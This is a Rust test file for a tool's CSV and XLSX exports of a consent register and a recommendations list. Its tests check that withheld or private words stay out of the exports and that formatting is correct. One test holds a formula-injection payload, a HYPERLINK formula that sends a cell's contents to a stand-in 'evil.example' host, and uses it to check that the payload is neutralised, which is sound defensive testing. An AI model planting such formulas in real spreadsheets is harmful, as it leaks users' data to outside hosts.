//! Spreadsheets: `heard quotes --to csv|xlsx` (the consent register) and `heard recs --to
//! csv|xlsx`, read back as a spreadsheet program would read them.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::Path;

use calamine::{Data, Reader, Xlsx};

use crate::evidence::{Evidence, evidence};
use crate::util::TestLibrary;

/// A CSV file as rows of cells, after checking it is what Excel opens unmangled: UTF-8
/// with a byte order mark, every line ended by CRLF.
#[track_caller]
fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "no UTF-8 byte order mark"
    );
    let text = String::from_utf8(bytes[3..].to_vec()).expect("UTF-8");
    assert!(text.ends_with("\r\n"), "last line not ended by CRLF");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect();
    // Each record ends with CRLF: as many CRLFs as records plus line breaks inside cells.
    let inner: usize = rows
        .iter()
        .flatten()
        .map(|c| c.matches("\r\n").count())
        .sum();
    assert_eq!(text.matches("\r\n").count(), rows.len() + inner);
    rows
}

/// Rows as maps from header to cell.
fn by_header(rows: &[Vec<String>]) -> Vec<BTreeMap<String, String>> {
    let header = &rows[0];
    rows[1..]
        .iter()
        .map(|r| header.iter().cloned().zip(r.iter().cloned()).collect())
        .collect()
}

#[track_caller]
fn row<'a>(
    rows: &'a [BTreeMap<String, String>],
    key: &str,
    id: &str,
) -> &'a BTreeMap<String, String> {
    rows.iter()
        .find(|r| r[key] == id)
        .unwrap_or_else(|| panic!("no row {id} in {rows:#?}"))
}

/// The evidence library with an answered draft, so that quotes are used somewhere.
fn drafted() -> Evidence {
    let ev = evidence();
    ev.answered_draft();
    ev
}

#[test]
fn the_consent_register_withholds_words_without_consent_and_says_why() {
    let ev = drafted();
    let out = ev.lib.path("register.csv");
    let run = ev.lib.heard(&[
        "quotes",
        "--to",
        "csv",
        "--out",
        out.to_str().unwrap(),
        "--include",
        "internal",
    ]);
    run.assert_ok();
    let raw = std::fs::read_to_string(&out).unwrap();
    let rows = by_header(&read_csv(&out));
    // Every quote of the internal testimonies; the restricted one is left out.
    assert_eq!(rows.len(), 11, "{rows:#?}");
    assert!(!raw.contains(ev.id("dee-home")), "{raw}");
    assert!(
        run.stderr
            .contains("Left out 1 quote from restricted sources; --include restricted adds them."),
        "{}",
        run.stderr
    );

    let night = row(&rows, "quote", ev.id("ash-night"));
    assert_eq!(night["speaker"], "c-ash");
    assert_eq!(night["credited as"], "Peer researcher");
    assert_eq!(night["consent"], "approved");
    assert_eq!(night["scope"], "external");
    assert_eq!(night["last decision"], "approved");
    assert_eq!(night["decided by"], "c-ash");
    assert_eq!(night["decided on"].len(), 10, "{night:?}");
    assert_eq!(
        night["words"],
        "They discharged me at nine at night with a carrier bag and a bus pass."
    );
    assert_eq!(night["source"], "t-ash");
    assert!(night["place"].starts_with("corpus/testimonies/ash-discharge.md:"));

    let withdrawn = row(&rows, "quote", ev.id("bo-workers"));
    assert_eq!(withdrawn["consent"], "withdrawn");
    assert_eq!(
        withdrawn["words"],
        format!("(withheld: withdrawn {})", withdrawn["decided on"])
    );
    assert_eq!(
        row(&rows, "quote", ev.id("ash-nurse"))["words"],
        "(withheld: declined)"
    );
    assert_eq!(
        row(&rows, "quote", ev.id("ash-car-park"))["words"],
        "(withheld: consent not yet given)"
    );
    for words in [
        "had never spoken to each other",
        "forty other patients",
        "hospital car park",
    ] {
        assert!(!raw.contains(words), "`{words}` leaked into the register");
    }
    let for_bo = row(&rows, "quote", ev.id("bo-complex"));
    assert_eq!(for_bo["last decision"], "approved (for c-bo)");

    // Where used: the quotes the draft cites, and only those.
    let provenance = ev.provenance();
    let cited: Vec<&str> = provenance["citations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["kind"] == "quote")
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert!(!cited.is_empty());
    for r in &rows {
        let expected = if cited.contains(&r["quote"].as_str()) {
            "discharge-2027"
        } else {
            ""
        };
        assert_eq!(r["used in"], expected, "{r:?}");
    }

    // Never contact details, private notes or first names of people credited otherwise.
    for private in [
        "ashleigh.k@example.org",
        "Ashleigh",
        "Cyrus",
        "Quayside hostel key worker",
        "Prefers not to be named",
    ] {
        assert!(!raw.contains(private), "`{private}` is in the register");
    }
    assert_eq!(
        row(&rows, "quote", ev.id("cy-hostel"))["credited as"],
        "A person with lived experience"
    );
}

#[test]
fn the_consent_register_leaves_out_sources_not_marked_public_unless_asked() {
    let ev = evidence();
    let out = ev.lib.path("register.csv");
    let o = out.to_str().unwrap();
    let run = ev.lib.heard(&["quotes", "--to", "csv", "--out", o]);
    run.assert_ok();
    // All the quotes are of internal or restricted testimonies.
    assert_eq!(read_csv(&out).len(), 1, "only the header");
    assert!(
        run.stderr.contains("Left out 12 quotes") && run.stderr.contains("--include internal"),
        "{}",
        run.stderr
    );
    ev.lib
        .heard(&[
            "quotes",
            "--to",
            "csv",
            "--out",
            o,
            "--include",
            "restricted",
        ])
        .assert_ok();
    let rows = by_header(&read_csv(&out));
    assert_eq!(rows.len(), 12);
    let dee = row(&rows, "quote", ev.id("dee-home"));
    assert_eq!(dee["consent"], "approved");
    assert_eq!(dee["sensitivity"], "restricted");
    assert_eq!(dee["words"], "(withheld: restricted source)");
    assert!(
        !std::fs::read_to_string(&out)
            .unwrap()
            .contains("flat where he was waiting")
    );
}

#[test]
fn the_consent_register_honours_the_filters_of_heard_quotes() {
    let ev = evidence();
    let out = ev.lib.path("register.csv");
    let o = out.to_str().unwrap();
    let args = ["quotes", "--to", "csv", "--out", o, "--include", "internal"];
    ev.lib
        .heard(&[&args[..], &["--status", "approved", "--speaker", "c-bo"]].concat())
        .assert_ok();
    let rows = by_header(&read_csv(&out));
    let ids: Vec<&str> = rows.iter().map(|r| r["quote"].as_str()).collect();
    assert_eq!(ids.len(), 3, "{ids:?}");
    for name in ["bo-morning", "bo-complex", "bo-peer"] {
        assert!(ids.contains(&ev.id(name)), "{name} missing from {ids:?}");
    }
    ev.lib
        .heard(&[&args[..], &["--tag", "crisis-care"]].concat())
        .assert_ok();
    assert_eq!(read_csv(&out).len() - 1, 2);
}

/// The XML of the first sheet of an XLSX file.
fn sheet_xml(path: &Path) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn the_consent_register_as_xlsx_has_real_dates_a_frozen_header_and_a_filter() {
    let ev = drafted();
    let out = ev.lib.path("register.xlsx");
    ev.lib
        .heard(&[
            "quotes",
            "--to",
            "xlsx",
            "--out",
            out.to_str().unwrap(),
            "--include",
            "internal",
        ])
        .assert_ok();
    let mut book: Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let names = book.sheet_names();
    assert_eq!(names, vec!["Consent register".to_string()]);
    let range = book.worksheet_range("Consent register").unwrap();
    let rows: Vec<&[Data]> = range.rows().collect();
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(&header[..3], ["quote", "speaker", "credited as"]);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let night = rows.iter().find(|r| r[0] == ev.id("ash-night")).unwrap();
    assert!(
        matches!(night[col("decided on")], Data::DateTime(_)),
        "decided on is not a date: {:?}",
        night[col("decided on")]
    );
    assert_eq!(
        night[col("words")].to_string(),
        "They discharged me at nine at night with a carrier bag and a bus pass."
    );
    let xml = sheet_xml(&out);
    assert!(
        xml.contains(r#"ySplit="1""#) && xml.contains(r#"state="frozen""#),
        "header row not frozen: {xml}"
    );
    assert!(xml.contains("<autoFilter ref=\"A1:"), "no autofilter");
    assert!(xml.contains("<col "), "no column widths");
}

/// A library with our recommendations, one of them in an internal source.
fn recs_lib() -> TestLibrary {
    let lib = TestLibrary::with_fixture("evidence");
    lib.write(
        "corpus/reports/board-paper.md",
        "---\nid: board-2025\ntitle: Board paper\nkind: report\ndate: 2025\nsensitivity: internal\n---\n\n# Board paper\n\n## Recommendations\n\n1. The board should keep the night shelter open all winter.\n",
    );
    lib
}

#[test]
fn recommendations_as_csv_and_xlsx_with_outcomes_links_and_dates() {
    let lib = recs_lib();
    lib.heard(&[
        "recs",
        "outcome",
        "r-rep-discharge-2024-1",
        "adopted",
        "--note",
        "Ward forms ask about housing since May 2025",
        "--evidence",
        "https://example.org/kelmouth/admission-form-2025",
    ])
    .assert_ok();
    let csv_out = lib.path("recs.csv");
    let run = lib.heard(&["recs", "--to", "csv", "--out", csv_out.to_str().unwrap()]);
    run.assert_ok();
    let rows = by_header(&read_csv(&csv_out));
    assert!(
        rows.iter().all(|r| r["source"] != "board-2025"),
        "an internal source is in the spreadsheet"
    );
    assert!(
        run.stderr.contains("Left out 1 recommendation"),
        "{}",
        run.stderr
    );
    let json = lib.recs(&["--limit", "1000"]);
    let public = json["recommendations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["source"] != "board-2025")
        .count();
    assert_eq!(rows.len(), public);
    let ward = row(&rows, "id", "r-rep-discharge-2024-1");
    assert_eq!(
        ward["recommendation"],
        "Every ward should ask about housing on the day a patient is admitted."
    );
    assert_eq!(
        ward["introduced by"], "Recommendations",
        "the lead-in travels with the item"
    );
    assert_eq!(ward["organisation"], "Harbourside Trust");
    assert_eq!(ward["date"], "2024-11-05");
    assert_eq!(ward["year"], "2024");
    assert_eq!(ward["outcome"], "adopted");
    assert_eq!(
        ward["outcome note"],
        "Ward forms ask about housing since May 2025"
    );
    assert_eq!(
        ward["evidence"],
        "https://example.org/kelmouth/admission-form-2025"
    );
    let sub = rows
        .iter()
        .find(|r| r["source"] == "sub-crisis-2023")
        .unwrap();
    assert_eq!(sub["consultation"], "Crisis care review 2023");
    assert_eq!(sub["outcome"], "unknown");

    let xlsx_out = lib.path("recs.xlsx");
    let o = xlsx_out.to_str().unwrap();
    lib.heard(&["recs", "--to", "xlsx", "--out", o, "--include", "internal"])
        .assert_ok();
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx_out).unwrap();
    let range = book.worksheet_range("Recommendations").unwrap();
    let rows: Vec<&[Data]> = range.rows().collect();
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let find = |id: &str| {
        *rows
            .iter()
            .find(|r| r[0] == id)
            .unwrap_or_else(|| panic!("no {id}"))
    };
    let ward = find("r-rep-discharge-2024-1");
    assert!(
        matches!(ward[col("date")], Data::DateTime(_)),
        "{:?}",
        ward[col("date")]
    );
    assert!(matches!(ward[col("outcome recorded")], Data::DateTime(_)));
    assert_eq!(ward[col("year")], Data::Float(2024.0));
    // A year alone is not a day: it stays as written.
    let board = find("r-board-2025-1");
    assert_eq!(board[col("date")], Data::String("2025".into()));
    let xml = sheet_xml(&xlsx_out);
    assert!(xml.contains("<hyperlink "), "the evidence is not a link");
}

#[test]
fn text_that_looks_like_a_formula_is_never_evaluated() {
    let lib = TestLibrary::with_fixture("evidence");
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    lib.heard(&[
        "recs",
        "outcome",
        "r-rep-discharge-2024-1",
        "adopted",
        "--note",
        formula,
    ])
    .assert_ok();
    lib.heard(&[
        "recs",
        "outcome",
        "r-rep-discharge-2024-2",
        "partly",
        "--note=-1+2 wards agreed",
    ])
    .assert_ok();
    let csv_out = lib.path("recs.csv");
    lib.heard(&["recs", "--to", "csv", "--out", csv_out.to_str().unwrap()])
        .assert_ok();
    let rows = by_header(&read_csv(&csv_out));
    assert_eq!(
        row(&rows, "id", "r-rep-discharge-2024-1")["outcome note"],
        format!("'{formula}")
    );
    assert_eq!(
        row(&rows, "id", "r-rep-discharge-2024-2")["outcome note"],
        "'-1+2 wards agreed"
    );

    let xlsx_out = lib.path("recs.xlsx");
    lib.heard(&["recs", "--to", "xlsx", "--out", xlsx_out.to_str().unwrap()])
        .assert_ok();
    let xml = sheet_xml(&xlsx_out);
    assert!(!xml.contains("<f>"), "a formula was written: {xml}");
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx_out).unwrap();
    let range = book.worksheet_range("Recommendations").unwrap();
    let cells: Vec<String> = range.cells().map(|(_, _, d)| d.to_string()).collect();
    assert!(
        cells.contains(&formula.to_string()),
        "the note is kept as text"
    );
    // The cell is marked "quote prefix", so Excel keeps it text even when it is edited.
    let mut styles = String::new();
    zip::ZipArchive::new(std::fs::File::open(&xlsx_out).unwrap())
        .unwrap()
        .by_name("xl/styles.xml")
        .unwrap()
        .read_to_string(&mut styles)
        .unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
}

#[test]
fn a_spreadsheet_flag_without_to_is_a_usage_error() {
    let lib = TestLibrary::with_fixture("evidence");
    let run = lib.heard(&["quotes", "--out", "x.csv"]);
    run.assert_code(2);
    let run = lib.heard(&["recs", "--to", "ods"]);
    run.assert_code(2);
    let run = lib.heard(&["quotes", "--to", "csv", "--json"]);
    run.assert_code(2);
}

#[test]
fn an_imported_document_that_names_nobody_is_not_put_down_as_ours() {
    let lib = TestLibrary::new();
    lib.write(
        "heard.toml",
        &lib.read("heard.toml").replace(
            "organisation = \"\"",
            "organisation = \"Northgate Together\"",
        ),
    );
    lib.write(
        "corpus/imported/found.md",
        "---\ntitle: A found report\nkind: report\nsensitivity: public\noriginal:\n  file: found.pdf\n  format: pdf\n---\n\n## Recommendations\n\n1. Councils should publish their waiting times every month.\n",
    );
    lib.write(
        "corpus/reports/ours.md",
        "---\ntitle: Our report\nkind: report\nsensitivity: public\n---\n\n## Recommendations\n\n1. Every ward should ask about housing on admission.\n",
    );
    let out = lib.path("recs.csv");
    lib.heard(&["recs", "--to", "csv", "--out", out.to_str().unwrap()])
        .assert_ok();
    let rows = by_header(&read_csv(&out));
    let found = row(&rows, "source", "imported/found");
    assert_eq!(found["organisation"], "", "{found:?}");
    let ours = row(&rows, "source", "reports/ours");
    assert_eq!(ours["organisation"], "Northgate Together");
}
